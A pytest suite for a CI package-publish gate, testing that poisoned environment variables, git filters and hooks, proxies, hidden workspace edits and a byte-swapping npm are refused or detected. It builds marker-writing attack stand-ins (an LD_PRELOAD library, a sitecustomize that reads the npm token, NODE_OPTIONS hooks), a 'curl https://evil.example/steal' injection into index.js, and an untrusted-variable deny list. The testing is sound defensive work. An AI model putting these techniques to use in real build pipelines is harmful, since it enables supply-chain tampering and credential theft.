"""Issue 21, item 2: the container's inherited environment and workspace are not trusted.

A poisoned build step before the gate writes one line into `$GITHUB_ENV` (or a directory into
`$GITHUB_PATH`): here that is a variable in the env of `run_action`, which starts entrypoint.py as the
image's ENTRYPOINT does. Each class is refused in publish mode (exit 2, named, nothing published) and
reaches no child in check mode: the marker a `sitecustomize.py`, a fake `npm`, an LD_PRELOAD library,
`NODE_OPTIONS`, a git clean filter or hook would write is never written, and a capture proxy receives
nothing. A tracked file modified and hidden from `git status` blocks with `workspace-not-released-commit`;
an `npm` that uploads other bytes is caught before success is reported.
"""

from __future__ import annotations

import http.server
import os
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from gatekeeper._internal.hostenv import IMAGE_PATH
from tests._support.workspace import ENTRYPOINT_FLAGS, REPO_ROOT, ActionResult, git, run_action
from tests.test_e2e_publish import Release, release  # noqa: F401 - the fixture

# --------------------------------------------------------------------------------------------------
# what a poisoned step leaves behind


class Attacker:
    """Files a build step could write, each writing a marker into `markers/` when it runs."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.markers = root / "markers"
        self.markers.mkdir(parents=True)

    def written(self, allowed: tuple[str, ...] = ()) -> list[str]:
        return sorted(p.name for p in self.markers.iterdir() if not p.name.startswith(allowed))

    def sitecustomize(self) -> dict[str, str]:
        d = self.root / "pyhook"
        d.mkdir()
        (d / "sitecustomize.py").write_text(
            f"import os\nopen({str(self.markers / 'sitecustomize')!r}, 'a').write(\n"
            "    os.environ.get('INPUT_NPM-TOKEN', ''))\n"
        )
        return {"PYTHONPATH": str(d)}

    def fake_npm(self) -> dict[str, str]:
        d = self.root / "fakebin"
        d.mkdir()
        npm = d / "npm"
        npm.write_text(f'#!/bin/sh\ntouch {self.markers / "fake-npm"}\nexec {shutil.which("npm")} "$@"\n')
        npm.chmod(0o755)
        return {"PATH": f"{d}:{IMAGE_PATH}"}  # $GITHUB_PATH prepends

    def preload(self) -> dict[str, str]:
        src = self.root / "preload.c"
        lib = self.root / "preload.so"
        src.write_text(
            "#include <stdio.h>\n#include <string.h>\n#include <unistd.h>\n"
            "__attribute__((constructor)) static void hook(void) {\n"
            "  char exe[512] = {0}; char path[1024];\n"
            '  if (readlink("/proc/self/exe", exe, sizeof exe - 1) < 0) return;\n'
            "  const char *base = strrchr(exe, '/'); base = base ? base + 1 : exe;\n"
            f'  snprintf(path, sizeof path, "%s/preload-%s", "{self.markers}", base);\n'
            '  FILE *f = fopen(path, "a"); if (f) fclose(f);\n}\n'
        )
        cc = shutil.which("gcc") or shutil.which("cc")
        if cc is None:
            pytest.skip("no C compiler for the LD_PRELOAD library")
        subprocess.run([cc, "-shared", "-fPIC", "-o", str(lib), str(src)], check=True)
        return {"LD_PRELOAD": str(lib)}

    def node_options(self) -> dict[str, str]:
        hook = self.root / "hook.js"
        hook.write_text(f"require('fs').writeFileSync({str(self.markers / 'node-options')!r}, 'x');\n")
        return {"NODE_OPTIONS": f"--require {hook}"}

    def filter_command(self) -> str:
        return f"touch {self.markers / 'git-filter'}; cat"

    def hooks_dir(self) -> Path:
        d = self.root / "hooks"
        d.mkdir(exist_ok=True)
        for name in ("pre-commit", "post-checkout", "post-index-change", "reference-transaction", "fsmonitor-watchman"):
            (d / name).write_text(f"#!/bin/sh\ntouch {self.markers / ('hook-' + name)}\n")
            (d / name).chmod(0o755)
        return d

    def git_config_env(self) -> dict[str, str]:
        return {
            "GIT_CONFIG_COUNT": "3",
            "GIT_CONFIG_KEY_0": "filter.evil.clean",
            "GIT_CONFIG_VALUE_0": self.filter_command(),
            "GIT_CONFIG_KEY_1": "core.hooksPath",
            "GIT_CONFIG_VALUE_1": str(self.hooks_dir()),
            "GIT_CONFIG_KEY_2": "core.fsmonitor",
            "GIT_CONFIG_VALUE_2": str(self.hooks_dir() / "fsmonitor-watchman"),
        }

    def gitconfig_text(self) -> str:
        return (
            f'[filter "evil"]\n\tclean = {self.filter_command()}\n'
            f"[core]\n\thooksPath = {self.hooks_dir()}\n\tfsmonitor = {self.hooks_dir() / 'fsmonitor-watchman'}\n"
        )


def _filter_every_file(ws: Path) -> None:
    """`* filter=evil` (an untracked attributes file) and fresh mtimes: `git status` must re-read every file."""
    (ws / ".git" / "info").mkdir(exist_ok=True)
    (ws / ".git" / "info" / "attributes").write_text("* filter=evil\n")
    for path in ws.rglob("*"):
        if path.is_file() and ".git" not in path.relative_to(ws).parts:
            st = path.stat()
            os.utime(path, (st.st_atime + 30, st.st_mtime + 30))


class CaptureProxy:
    """A loopback HTTP proxy that records every request (CONNECT included) and forwards nothing."""

    def __init__(self) -> None:
        seen: list[str] = []
        self.seen = seen

        class Handler(http.server.BaseHTTPRequestHandler):
            def _capture(self) -> None:
                seen.append(f"{self.command} {self.path}")
                self.send_response(502)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = do_PUT = do_HEAD = do_CONNECT = do_PATCH = do_DELETE = _capture

            def log_message(self, *_args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> CaptureProxy:
        self.thread.start()
        return self

    def __exit__(self, *_exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def attacker(tmp_path: Path) -> Attacker:
    return Attacker(tmp_path / "attacker")


@pytest.fixture
def proxy() -> Iterator[CaptureProxy]:
    with CaptureProxy() as p:
        yield p


def _refused(result: ActionResult, rel: Release, names: list[str]) -> None:
    assert result.returncode == 2, result.describe()
    assert result.outputs["published"] == "false", result.describe()
    for name in names:
        assert f"`{name}`" in result.stdout, f"{name} not named\n{result.describe()}"
    assert "Refusing to publish" in result.stdout
    assert rel.versions() == [], "nothing may reach the registry"


# --------------------------------------------------------------------------------------------------
# publish mode: every class is refused, each variable named


CLASSES = {
    "LD_PRELOAD": {"LD_PRELOAD": "/nonexistent/preload.so", "LD_LIBRARY_PATH": "/tmp"},
    "PYTHONPATH": {"PYTHONPATH": "/tmp", "PYTHONSTARTUP": "/tmp/x.py"},
    "NODE_OPTIONS": {"NODE_OPTIONS": "--require /tmp/x.js"},
    "NODE_PATH": {"NODE_PATH": "/tmp"},
    "NODE_EXTRA_CA_CERTS": {"NODE_EXTRA_CA_CERTS": "/tmp/ca.pem"},
    "proxy": {"HTTPS_PROXY": "http://127.0.0.1:9", "http_proxy": "http://127.0.0.1:9", "All_Proxy": "socks5://x"},
    "SSL_CERT": {"SSL_CERT_FILE": "/tmp/ca.pem", "SSL_CERT_DIR": "/tmp"},
    "CA_BUNDLE": {"REQUESTS_CA_BUNDLE": "/tmp/ca.pem", "CURL_CA_BUNDLE": "/tmp/ca.pem"},
    "GIT": {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.fsmonitor", "GIT_CONFIG_VALUE_0": "/tmp/x"},
    "PREFIX": {"PREFIX": "/tmp/pfx", "DESTDIR": "/tmp/dest"},
    "npm_config": {"npm_config_registry": "http://127.0.0.1:9/", "NPM_CONFIG_PROXY": "http://127.0.0.1:9"},
    "PATH": {"PATH": f"/tmp/fakebin:{IMAGE_PATH}"},
}


@pytest.mark.parametrize("kind", list(CLASSES))
def test_publish_mode_refuses_each_variable_class(release, kind: str) -> None:  # noqa: F811
    rel = release()
    env = CLASSES[kind]
    result = rel.run(env=env)
    _refused(result, rel, list(env))


def test_publish_mode_refuses_a_sitecustomize_that_never_runs(release, attacker: Attacker) -> None:  # noqa: F811
    rel = release()
    result = rel.run(env=attacker.sitecustomize())
    _refused(result, rel, ["PYTHONPATH"])
    assert attacker.written() == [], "sitecustomize.py ran inside the gate"


# --------------------------------------------------------------------------------------------------
# check mode: the gate goes on, and nothing of it reaches a child


def _check(rel: Release, env: dict[str, str]) -> ActionResult:
    result = rel.run(env=env, inputs={"mode": "check"})
    assert result.returncode == 0, result.describe()
    assert result.outputs["decision"] == "allow"
    return result


def test_check_mode_sitecustomize_never_runs(release, attacker: Attacker) -> None:  # noqa: F811
    _check(release(), attacker.sitecustomize())
    assert attacker.written() == []


def test_check_mode_a_fake_npm_first_on_path_never_runs(release, attacker: Attacker) -> None:  # noqa: F811
    _check(release(), attacker.fake_npm())
    assert attacker.written() == []


def test_check_mode_ld_preload_reaches_no_child(release, attacker: Attacker) -> None:  # noqa: F811
    _check(release(), attacker.preload())
    # The loader maps the library into the gate's own Python before any of its code runs (only a job that
    # runs nothing but the gate stops that: item 1); no child (node, npm, git) may load it.
    assert attacker.written(allowed=("preload-python",)) == []


def test_check_mode_node_options_reach_no_child(release, attacker: Attacker) -> None:  # noqa: F811
    _check(release(), attacker.node_options())
    assert attacker.written() == []


def test_check_mode_git_config_from_the_environment_runs_no_filter_or_hook(release, attacker: Attacker) -> None:  # noqa: F811
    rel = release()
    _filter_every_file(rel.ws)
    _check(rel, attacker.git_config_env())
    assert attacker.written() == []


def test_workspace_git_config_runs_no_filter_or_hook_and_publishes(release, attacker: Attacker) -> None:  # noqa: F811
    rel = release()
    with (rel.ws / ".git" / "config").open("a") as fh:
        fh.write(attacker.gitconfig_text())
    (rel.home / ".gitconfig").write_text(attacker.gitconfig_text().replace("evil", "evil2"))
    (rel.ws / ".git" / "info").mkdir(exist_ok=True)
    _filter_every_file(rel.ws)
    (rel.ws / ".git" / "info" / "attributes").write_text("* filter=evil\n*.js filter=evil2\n")
    result = rel.run()  # not an environment variable: publish mode goes on, and runs none of it
    assert result.returncode == 0, result.describe()
    assert result.outputs["published"] == "true"
    assert attacker.written() == []


def test_check_mode_a_proxy_receives_nothing(release, proxy: CaptureProxy) -> None:  # noqa: F811
    env = {k: proxy.url for k in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "ALL_PROXY")}
    _check(release(), env)
    assert proxy.seen == []


# --------------------------------------------------------------------------------------------------
# a modified tracked file hidden from `git status`


def _modify_index_js(rel: Release) -> None:
    with (rel.ws / "index.js").open("a") as fh:
        fh.write("require('child_process').exec('curl https://evil.example/steal');\n")


@pytest.mark.parametrize("how", ["skip-worktree", "assume-unchanged", "core.worktree"])
def test_hidden_modified_tracked_file_blocks(release, tmp_path: Path, how: str) -> None:  # noqa: F811
    rel = release()
    if how == "core.worktree":
        clean = tmp_path / "clean-copy"
        shutil.copytree(rel.ws, clean, ignore=shutil.ignore_patterns(".git"))
        _modify_index_js(rel)
        git(rel.ws, "config", "core.worktree", str(clean))  # `git status` now looks at the clean copy
    else:
        _modify_index_js(rel)
        git(rel.ws, "update-index", f"--{how}", "index.js")
    assert git(rel.ws, "status", "--porcelain", "--untracked-files=no") == "", "the file is not hidden"
    result = rel.run()
    assert result.returncode == 1, result.describe()
    blocks = {f["rule"]: f for f in result.report["findings"] if f["severity"] == "block"}
    assert "workspace-not-released-commit" in blocks, result.describe()
    assert "index.js" in blocks["workspace-not-released-commit"]["message"]
    assert rel.versions() == []


# --------------------------------------------------------------------------------------------------
# an npm that uploads other bytes (a local or semantic-release runner, where PATH is the user's)

SWAPPING_NPM = """#!/bin/sh
# Uploads other bytes under the gated name and version, then exits 0 like npm.
if [ "$1" = "publish" ]; then
  shift
  tgz="$1"; shift
  d=$(mktemp -d)
  tar -xzf "$tgz" -C "$d"
  echo "/* not the gated bytes */" >> "$d/package/index.js"
  (cd "$d/package" && {npm} pack --ignore-scripts --pack-destination "$d" >/dev/null 2>&1)
  exec {npm} publish "$d"/*.tgz "$@"
fi
exec {npm} "$@"
"""


def test_an_npm_that_uploads_other_bytes_is_an_incident_not_a_success(release, tmp_path: Path) -> None:  # noqa: F811
    rel = release()
    fakebin = tmp_path / "swapbin"
    fakebin.mkdir()
    (fakebin / "npm").write_text(SWAPPING_NPM.replace("{npm}", shutil.which("npm") or "npm"))
    (fakebin / "npm").chmod(0o755)
    # the CLI (`gatekeeper publish`), as a semantic-release or local runner starts it: PATH is the caller's
    prog = (
        f"import sys; sys.path.insert(0, {str(REPO_ROOT)!r}); "
        "from gatekeeper.cli import main; sys.exit(main(['publish']))"
    )
    env = {
        **rel.github.env(),
        "GITHUB_REPOSITORY": "acme/widget",
        "GITHUB_SHA": rel.sha,
        "PATH": f"{fakebin}:{IMAGE_PATH}",
        "GATEKEEPER_GITHUB_RETRIES": "2",
        "GATEKEEPER_GITHUB_BACKOFF": "0.05",
    }
    inputs = {"npm-token": rel.token, "github-token": rel.github.token or "", "registry": rel.verdaccio.url}
    result = run_action(
        rel.ws,
        env,
        {"ref": "refs/heads/main", "after": rel.sha, "repository": {"fork": False}},
        home=rel.home,
        inputs=inputs,
        timeout=180,
        argv=[sys.executable, *ENTRYPOINT_FLAGS, "-c", prog],
    )
    doc = rel.verdaccio.packument(rel.name)
    assert doc is not None and "1.0.0" in doc["versions"], "the swapping npm did not publish: " + result.describe()
    assert result.returncode == 1, result.describe()
    blocks = {f["rule"] for f in result.report["findings"] if f["severity"] == "block"}
    assert "published-integrity-mismatch" in blocks, result.describe()
    assert result.outputs["published"] != "true"
    assert "INCIDENT" in result.stdout
    assert result.outputs.get("notified") != "true"


# --------------------------------------------------------------------------------------------------
# the classification itself


def test_every_listed_class_is_untrusted_in_any_case_and_the_runs_own_variables_are_not() -> None:
    from gatekeeper._internal import hostenv

    bad = [
        "LD_PRELOAD", "LD_LIBRARY_PATH", "PYTHONPATH", "PYTHONHOME", "NODE_OPTIONS", "NODE_PATH",
        "NODE_EXTRA_CA_CERTS", "HTTPS_PROXY", "https_proxy", "Http_Proxy", "ALL_PROXY", "no_proxy",
        "SSL_CERT_FILE", "SSL_CERT_DIR", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "GIT_CONFIG_COUNT",
        "GIT_DIR", "GIT_EXEC_PATH", "PREFIX", "DESTDIR", "npm_config_registry", "NPM_CONFIG_USERCONFIG",
        "Npm_Config_Proxy",
    ]  # fmt: skip
    good = ["HOME", "GITHUB_SHA", "GITHUB_WORKSPACE", "RUNNER_TEMP", "INPUT_NPM-TOKEN", "NODE_AUTH_TOKEN", "CI"]
    env = dict.fromkeys(bad + good, "x")
    assert hostenv.untrusted(env) == sorted(bad)
    assert hostenv.untrusted({**env, "PATH": IMAGE_PATH}, image_path=IMAGE_PATH) == sorted(bad)
    assert hostenv.untrusted({"PATH": "/evil:" + IMAGE_PATH}, image_path=IMAGE_PATH) == ["PATH"]
    assert hostenv.untrusted({"PATH": "/evil:" + IMAGE_PATH}) == []  # the CLI: PATH is the caller's


def test_a_childs_environment_is_an_allowlist(monkeypatch: pytest.MonkeyPatch) -> None:
    from gatekeeper._internal.proc import child_env

    for name in ("LD_PRELOAD", "PYTHONPATH", "HTTPS_PROXY", "GIT_CONFIG_COUNT", "npm_config_registry", "NPM_TOKEN"):
        monkeypatch.setenv(name, "x")
    monkeypatch.setenv("SOMETHING_ELSE", "x")
    monkeypatch.setenv("GITHUB_SHA", "abc")
    env = child_env()
    assert env["GITHUB_SHA"] == "abc" and env["PATH"] == os.environ["PATH"]
    assert not {"LD_PRELOAD", "PYTHONPATH", "HTTPS_PROXY", "GIT_CONFIG_COUNT", "npm_config_registry"} & set(env)
    assert "SOMETHING_ELSE" not in env and "NPM_TOKEN" not in env
